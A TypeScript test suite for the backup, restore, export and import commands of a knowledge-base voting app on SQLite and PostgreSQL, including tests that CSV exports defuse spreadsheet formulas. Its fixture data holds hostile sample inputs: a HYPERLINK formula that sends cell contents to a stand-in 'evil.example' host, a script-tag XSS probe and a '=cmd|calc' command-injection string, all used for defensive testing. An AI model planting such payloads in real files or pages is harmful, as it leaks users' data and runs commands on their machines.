import { spawn } from 'node:child_process';
import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { guardedText, unguardedText } from '#backup/formula-guard.ts';
import { keptTables, leftOut, leftOutColumns } from '#backup/kept-tables.ts';
import { createSearchCounts } from '#search/misses/search-counts.server.ts';
import { createLog } from '#server/log.ts';
import { openVotes, type Votes } from '#server/open-votes.ts';
import { createStaffStore } from '#staff/sign-in/table-staff-store.server.ts';
import { createFeedbackStore } from '#votes/feedback/feedback-tables.server.ts';
import { createSuspicionStore } from '#votes/suspicion/suspicion-tables.server.ts';
import {
  execute,
  skipWithoutPostgres,
  startPostgres,
  type PostgresServer,
} from '../setup/postgres.ts';
import { startVoting } from './postgres-votes.ts';
import { aVote } from './vote-builder.ts';

/** Where votes are: a folder, and a database where they are on PostgreSQL. */
interface Place {
  readonly dataFolder: string;
  readonly databaseUrl: string | undefined;
}

let server: PostgresServer | undefined;
let folder = '';
let places = 0;

const isSkipped = skipWithoutPostgres();
const engines = ['SQLite', 'PostgreSQL'] as const;
type EngineName = (typeof engines)[number];

beforeAll(async () => {
  if (!isSkipped) server = await startPostgres();
}, 60_000);
afterAll(async () => server?.remove());
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'hosting-kb-data-'));
});
afterEach(() => {
  rmSync(folder, { recursive: true, force: true });
});

async function newPlace(engine: EngineName): Promise<Place> {
  return {
    dataFolder: join(folder, `data-${++places}`),
    databaseUrl: engine === 'SQLite' ? undefined : await server?.createDatabase(),
  };
}

/** Opens the votes as a server does. */
function open(place: Place): Promise<Votes> {
  return openVotes({ ...place, secret: 's'.repeat(32) }, createLog('silent'));
}

interface Said {
  readonly code: number | null;
  readonly text: string;
}

/** Does what `npm run data:…` does. */
function data(command: string, path: string, place: Place): Promise<Said> {
  const child = spawn(process.execPath, ['src/server/data-command.ts', command, path], {
    env: {
      ...process.env,
      KB_DATA: place.dataFolder,
      // An empty one counts as absent.
      DATABASE_URL: place.databaseUrl ?? '',
    },
  });
  let text = '';
  for (const output of [child.stdout, child.stderr]) {
    output.setEncoding('utf8').on('data', (part: string) => (text += part));
  }
  return new Promise((resolve) => child.once('close', (code) => resolve({ code, text })));
}

async function expectDone(command: string, path: string, place: Place): Promise<string> {
  const { code, text } = await data(command, path, place);
  expect([code, text]).toEqual([0, expect.any(String)]);
  return text;
}

/** The rows of an export, without the moment at which it was written. */
async function rowsOf(place: Place): Promise<string[]> {
  const path = join(folder, `rows-${++places}.jsonl`);
  await expectDone('export', path, place);
  return readFileSync(path, 'utf8').split('\n').slice(1);
}

/** What a comment may hold: formulas, quotes, line ends, letters of the whole world, markup. */
const texts = [
  '=1+1',
  "'=1",
  ' \t=1',
  '@SUM(A1)',
  '+44 and more',
  '-2',
  '＝1',
  '=HYPERLINK("https://evil.example?x="&A1)',
  '"quoted",\nline\nline',
  'a,b;c',
  'é𝒳 نص 漢字',
  '<script>alert(1)</script>',
  '{"table":"votes"}',
  'true',
  '1e5',
  '\uFEFFmark',
];

/** Puts something into every table. */
async function fill(place: Place): Promise<void> {
  const { store, tables, ...votes } = await open(place);
  const feedback = createFeedbackStore(tables, () => 1_700_000_000_000);
  for (const [n, text] of texts.entries()) {
    const vote = aVote({ articleId: 1 + (n % 3), helpful: n % 2 === 0 });
    await store.cast(vote);
    const { articleId, voter } = vote;
    await feedback.give({
      articleId,
      voter,
      helpful: false,
      reason: n % 2 === 0 ? 'outdated' : undefined,
      comment: n % 5 === 0 ? undefined : text,
      contentVersion: n % 4 === 0 ? undefined : 'v1',
    });
  }
  const changed = aVote({ contentVersion: undefined });
  await store.cast(changed);
  await store.cast(aVote({ voter: changed.voter, helpful: null }));
  await feedback.addStuck({
    articleId: 2,
    voter: changed.voter,
    contentVersion: 'v1',
    step: 'é-1',
  });
  const searches = createSearchCounts(tables);
  await searches.addMiss({ query: '=cmd|calc', kind: 'nothing' });
  await searches.addSolved(2);
  const suspicion = { articleId: 1, day: '2026-03-01', network: 'n', counted: 60, refused: 4 };
  await createSuspicionStore(tables).add(suspicion);
  await createStaffStore(tables).add({ name: 'blue', passwordHash: '$argon2id$x', createdAt: 1 });
  await votes.close();
}

describe.each(engines)('the data commands on %s', (engine) => {
  let place: Place;
  const other = engines.find((name) => name !== engine) ?? engine;

  beforeEach(async ({ skip }) => {
    skip(isSkipped, 'PostgreSQL is not installed');
    place = await newPlace(engine);
  });

  it('back up and export while people vote: each copy is whole, with every vote thanked for before', async () => {
    const opened = await open(place);
    const voting = startVoting(opened.store, 3);
    const copies: { path: string; acknowledged: number }[] = [];
    for (const name of ['a.backup', 'b.jsonl', 'c.backup', 'd.jsonl', 'e-csv']) {
      const path = join(folder, name);
      const acknowledged = voting.acknowledged.length;
      await expectDone(name.endsWith('backup') ? 'backup' : 'export', path, place);
      copies.push({ path, acknowledged });
    }
    await voting.end();
    await opened.close();
    for (const { path, acknowledged } of copies) {
      const copy = await newPlace(engine);
      await expectDone(path.endsWith('backup') ? 'restore' : 'import', path, copy);
      const { store, ...votes } = await open(copy);
      const total = [...(await store.allCounts()).values()].reduce(
        (all, one) => all + one.total,
        0,
      );
      for (const vote of voting.acknowledged.slice(0, acknowledged)) {
        expect(await store.voteOf(vote.articleId, vote.voter)).toEqual({ helpful: true });
      }
      await votes.close();
      const rows = await rowsOf(copy);
      expect(rows.filter((row) => row.startsWith('{"table":"votes"'))).toHaveLength(total);
      expect(total).toBeGreaterThanOrEqual(acknowledged);
    }
    expect(copies.at(-1)?.acknowledged).toBeGreaterThan(0);
  }, 120_000);

  it(`move everything to ${other} and back without changing a letter`, async () => {
    await fill(place);
    const before = await rowsOf(place);
    const path = join(folder, 'all.jsonl');
    await expectDone('export', path, place);
    const there = await newPlace(other);
    await expectDone('import', path, there);
    expect((await rowsOf(there)).sort()).toEqual(before.sort());
    await expectDone('export', path, there);
    const back = await newPlace(engine);
    await expectDone('import', path, back);
    expect((await rowsOf(back)).sort()).toEqual(before);
    const { store, ...votes } = await open(back);
    expect(await store.cast(aVote({ articleId: 9 }))).toMatchObject({ effect: 'added' });
    await votes.close();
    expect(statSync(path).mode & 0o077).toBe(0);
  }, 60_000);

  it('write CSV that no spreadsheet takes for a formula, and read it again', async () => {
    await fill(place);
    const before = await rowsOf(place);
    const path = join(folder, 'csv');
    await expectDone('export', path, place);
    const names = readdirSync(path).sort();
    expect(names).toContain('feedback.csv');
    expect(names).not.toContain('staff_accounts.csv');
    for (const name of names) {
      const text = readFileSync(join(path, name), 'utf8');
      expect(text.startsWith('\uFEFF"')).toBe(true);
      const cells = [...text.slice(1).matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(
        ([, cell = '']) => cell,
      );
      expect(cells.filter((cell) => /^[\s\0]*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell))).toEqual([]);
    }
    const copy = await newPlace(engine);
    await expectDone('import', path, copy);
    const isPublic = (row: string): boolean =>
      !/^(?:\{"table":"staff_accounts"|\{"rows":)/.test(row);
    expect((await rowsOf(copy)).filter(isPublic)).toEqual(before.filter(isPublic));
  }, 60_000);

  it('import into an empty database only, and all or nothing', async () => {
    await fill(place);
    const path = join(folder, 'all.jsonl');
    await expectDone('export', path, place);
    const again = await data('import', path, place);
    expect(again).toEqual({
      code: 1,
      text: expect.stringContaining('there are rows in "votes" already'),
    });

    const lines = readFileSync(path, 'utf8').trimEnd().split('\n');
    const faults: Record<string, string[]> = {
      'its last line is missing': lines.slice(0, -1),
      'Line 5 of': [...lines.slice(0, 4), '{"table":"votes","row":{}}', ...lines.slice(5)],
      'Line 1 of': ['{"file":"something else"}', ...lines.slice(1)],
      [`Line ${lines.length - 1} of`]: [...lines.slice(0, 3), ...lines.slice(4)],
    };
    const empty = await newPlace(engine);
    for (const [sentence, changed] of Object.entries(faults)) {
      const spoilt = join(folder, 'spoilt.jsonl');
      writeFileSync(spoilt, changed.join('\n'));
      const said = await data('import', spoilt, empty);
      expect(said).toEqual({ code: 1, text: expect.stringContaining(sentence) });
    }
    expect(await rowsOf(empty)).toEqual(['{"rows":0}', '']);
  }, 60_000);

  it('restore nothing and import nothing while a server runs', async () => {
    const opened = await open(place);
    await opened.store.cast(aVote());
    const backup = join(folder, 'a.backup');
    const path = join(folder, 'a.jsonl');
    await expectDone('backup', backup, place);
    await expectDone('export', path, place);
    for (const said of [await data('restore', backup, place), await data('import', path, place)]) {
      expect(said).toEqual({ code: 1, text: expect.stringMatching(/Stop (?:it first|that one)/) });
    }
    expect(await opened.store.counts(1)).toEqual({ helpful: 1, total: 1 });
    await opened.close();
  }, 60_000);

  it('restore what was backed up, whatever has happened since', async () => {
    const vote = aVote();
    const first = await open(place);
    await first.store.cast(vote);
    await first.close();
    const backup = join(folder, 'a.backup');
    await expectDone('backup', backup, place);
    const second = await open(place);
    await second.store.cast(aVote({ voter: vote.voter, helpful: false }));
    await second.store.cast(aVote());
    await second.close();
    const said = await expectDone('restore', backup, place);
    if (engine === 'SQLite') expect(said).toContain('What was there before is in');
    const third = await open(place);
    expect(await third.store.counts(1)).toEqual({ helpful: 1, total: 1 });
    expect(await third.store.cast(vote)).toMatchObject({ effect: 'replayed' });
    await third.close();
  }, 60_000);

  it('take nothing that is not a back-up, and leave what is there', async () => {
    const opened = await open(place);
    await opened.store.cast(aVote());
    await opened.close();
    const spoilt = join(folder, 'spoilt.backup');
    writeFileSync(spoilt, 'spoilt '.repeat(1_000));
    for (const path of [spoilt, join(folder, 'none')]) {
      const { code, text } = await data('restore', path, place);
      expect([code, text]).toEqual([1, expect.stringMatching(/damaged|There is no|failed/)]);
    }
    const { store, ...votes } = await open(place);
    expect(await store.counts(1)).toEqual({ helpful: 1, total: 1 });
    await votes.close();
  }, 60_000);

  it('know every table and column: none is forgotten when one is added', async () => {
    const { tables, ...votes } = await open(place);
    const found = await tables.introspection.getTables({ withInternalKyselyTables: true });
    await votes.close();
    const known = (name: string): boolean =>
      !leftOut.includes(name) && !leftOutColumns.includes(name);
    const columns = (names: Iterable<string>): string[] => [...names].filter(known).sort();
    expect(
      Object.fromEntries(
        found
          .filter(({ name }) => known(name))
          .map(({ name, columns: all }) => [name, columns(all.map((column) => column.name))]),
      ),
    ).toEqual(
      Object.fromEntries(
        keptTables.map((table) => [table.name, columns(Object.keys(table.columns))]),
      ),
    );
  });
});

describe('a back-up of a SQLite file', () => {
  it('replaces one of the same name only when it is whole', async () => {
    const place = await newPlace('SQLite');
    const path = join(folder, 'kb.backup');
    writeFileSync(path, 'the one before');
    mkdirSync(place.dataFolder);
    writeFileSync(join(place.dataFolder, 'kb.sqlite'), 'spoilt '.repeat(1_000));
    expect((await data('backup', path, place)).code).toBe(1);
    expect(readFileSync(path, 'utf8')).toBe('the one before');
    expect(readdirSync(folder).filter((name) => name.includes('unfinished'))).toEqual([]);
  });

  it('is found missing or misspelt in words', async () => {
    const place = await newPlace('SQLite');
    expect(await data('backup', join(folder, 'x'), place)).toEqual({
      code: 1,
      text: expect.stringMatching(/^There is no ".*kb\.sqlite"\.\n$/),
    });
    expect((await data('back-up', join(folder, 'x'), place)).text).toContain('npm run data:backup');
  });
});

describe.skipIf(isSkipped)('a back-up of PostgreSQL', () => {
  it('holds no points of limits, and a restore makes their table again', async () => {
    const place = await newPlace('PostgreSQL');
    const { databaseUrl = '' } = place;
    await (await open(place)).close();
    await execute(databaseUrl, "INSERT INTO limit_points VALUES ('votes:network', 1, 1)");
    const backup = join(folder, 'a.backup');
    await expectDone('backup', backup, place);
    await expectDone('restore', backup, place);
    expect(await execute(databaseUrl, 'SELECT key FROM limit_points')).toEqual([]);
  }, 60_000);
});

it('the guard against formulas can always be taken away', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const guarded = guardedText(text);
      expect(/^[\s\0]*[=+\-@＝＋－＠]|^[\t\r\n\0]/u.test(guarded)).toBe(false);
      expect(unguardedText(guarded)).toBe(text);
    }),
    { numRuns: 2_000 },
  );
});
